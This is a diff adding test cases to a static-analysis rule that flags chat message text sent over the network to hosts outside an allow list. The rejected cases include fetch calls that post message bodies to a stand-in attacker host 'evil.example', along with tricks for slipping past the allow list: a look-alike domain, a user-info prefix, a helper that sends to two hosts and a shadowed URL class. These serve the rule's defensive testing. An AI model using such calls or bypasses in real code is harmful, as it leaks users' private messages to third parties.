@@ -2,10 +2,127 @@
 import { noPlaintextToNetwork } from '../../rules/no-plaintext-to-network.ts';
 import { flowCase, testFlowRule, withTags } from './rule-tester.ts';
 
+/** Cases under a list of hosts that may be sent plaintext. */
+const allowed = (...allowedHosts: readonly string[]) => [{ allowedHosts }] as const;
+
+const allowedCases: readonly (readonly [name: string, host: string, code: string])[] = [
+  ['an address', 'api.example', `fetch('https://api.example/v1', { method: 'POST', body: message.body });`],
+  ['an address with a query', 'api.example', `fetch(\`https://api.example/search?q=\${message.body}\`);`],
+  [
+    'a name in front',
+    '*.example',
+    `fetch('https://eu.api.example', { method: 'POST', body: message.body });`,
+  ],
+  [
+    'a scheme',
+    'https://api.example',
+    `fetch('https://api.example', { method: 'POST', body: message.body });`,
+  ],
+  ['a port', 'api.example:443', `fetch('https://api.example', { method: 'POST', body: message.body });`],
+  ['an address of the page', 'self', `fetch('/v1/messages', { method: 'POST', body: message.body });`],
+  [
+    'a constant',
+    'api.example',
+    `const API = 'https://api.example'; fetch(\`\${API}/v1\`, { method: 'POST', body: message.body });`,
+  ],
+  [
+    'a URL with a base',
+    'api.example',
+    `const base = new URL('https://api.example'); fetch(new URL(\`/v1/\${message.id}\`, base), { method: 'POST', body: message.body });`,
+  ],
+  [
+    'a request',
+    'api.example',
+    `await fetch(new Request('https://api.example/v1', { method: 'POST', body: message.body })); export {};`,
+  ],
+  [
+    'a member of constants',
+    'api.example',
+    `const hosts = { api: 'https://api.example' } as const; fetch(\`\${hosts.api}/v1\`, { method: 'POST', body: message.body });`,
+  ],
+  [
+    'a socket to an address',
+    'api.example',
+    `const socket = new WebSocket('wss://api.example'); socket.send(message.body);`,
+  ],
+  [
+    'options of a request',
+    'api.example:8443',
+    `import { request } from 'node:https'; request({ host: 'api.example:8443', path: '/' }).end(message.body);`,
+  ],
+  [
+    'a connection',
+    'api.example',
+    `import { connect } from 'node:tls'; const socket = connect({ host: 'api.example', port: 443 }); socket.write(message.body);`,
+  ],
+  [
+    'a request of a field',
+    'api.example',
+    `class Api { readonly #base = 'https://api.example'; async send(text: string) { await fetch(\`\${this.#base}/v1\`, { method: 'POST', body: text }); } } new Api().send(message.body); export {};`,
+  ],
+];
+
+const refusedCases: readonly (readonly [name: string, place: string, before: string])[] = [
+  ['another host', `fetch('https://evil.example', { method: 'POST', body: message.body })`, ''],
+  [
+    'a host that only ends alike',
+    `fetch('https://evilapi.example/', { method: 'POST', body: message.body })`,
+    '',
+  ],
+  ['a host behind a user', `fetch('https://api.example@evil.example/', { body: message.body })`, ''],
+  [
+    'a host that goes on',
+    `fetch(\`https://api.example\${rest}\`, { body: message.body })`,
+    'declare const rest: string; ',
+  ],
+  ['a host that is given', `fetch(address, { body: message.body })`, 'declare const address: string; '],
+  [
+    'a path that may be an address',
+    `fetch(new URL(path, 'https://api.example'), { body: message.body })`,
+    'declare const path: string; ',
+  ],
+  [
+    'a path that may name a host',
+    `fetch(new URL(\`/\${path}\`, 'https://api.example'), { body: message.body })`,
+    'declare const path: string; ',
+  ],
+  [
+    'a variable',
+    `fetch(address, { body: message.body })`,
+    `let address = 'https://api.example'; address = 'https://evil.example'; `,
+  ],
+  [
+    'a setting of the machine',
+    `fetch(address, { body: message.body })`,
+    `const address = process.env['API'] ?? 'https://api.example'; `,
+  ],
+  [
+    'options that are given',
+    `request(options, () => undefined).end(message.body)`,
+    `import { request, type RequestOptions } from 'node:https'; declare const options: RequestOptions; `,
+  ],
+  [
+    'a helper that sends to two',
+    `send(message.body)`,
+    `async function send(text: string): Promise<void> { await fetch('https://api.example', { body: text }); await fetch('https://evil.example', { body: text }); }
+`,
+  ],
+  [
+    'a class of the same name',
+    `fetch(new URL('https://api.example').toString(), { body: message.body })`,
+    `class URL { constructor(_: string) {} toString(): string { return 'https://evil.example'; } } `,
+  ],
+];
+
 const body = { source: 'ChatMessage.body', sink: 'the network' };
 
 testFlowRule('no-plaintext-to-network', noPlaintextToNetwork, {
   valid: [
+    ...allowedCases.map(([name, host, code]) => ({
+      name: `an allowed host: ${name}`,
+      code: withTags(code),
+      options: allowed(host),
+    })),
     {
       name: 'an identifier in an address',
       code: withTags(`await fetch(\`https://api.example/messages/\${message.id}\`); export {};`),
@@ -36,6 +153,14 @@ testFlowRule('no-plaintext-to-network', noPlaintextToNetwork, {
     },
   ],
   invalid: [
+    ...refusedCases.map(([name, place, before]) =>
+      flowCase(
+        `under a list of hosts: ${name}`,
+        place,
+        { ...body, via: place.startsWith('send(') ? ' through send()' : '' },
+        { before, after: '; export {};', options: allowed('api.example', '*.api.example') },
+      ),
+    ),
     flowCase('a body', `fetch('https://api.example', { method: 'POST', body: message.body })`, body, {
       before: `
 `,
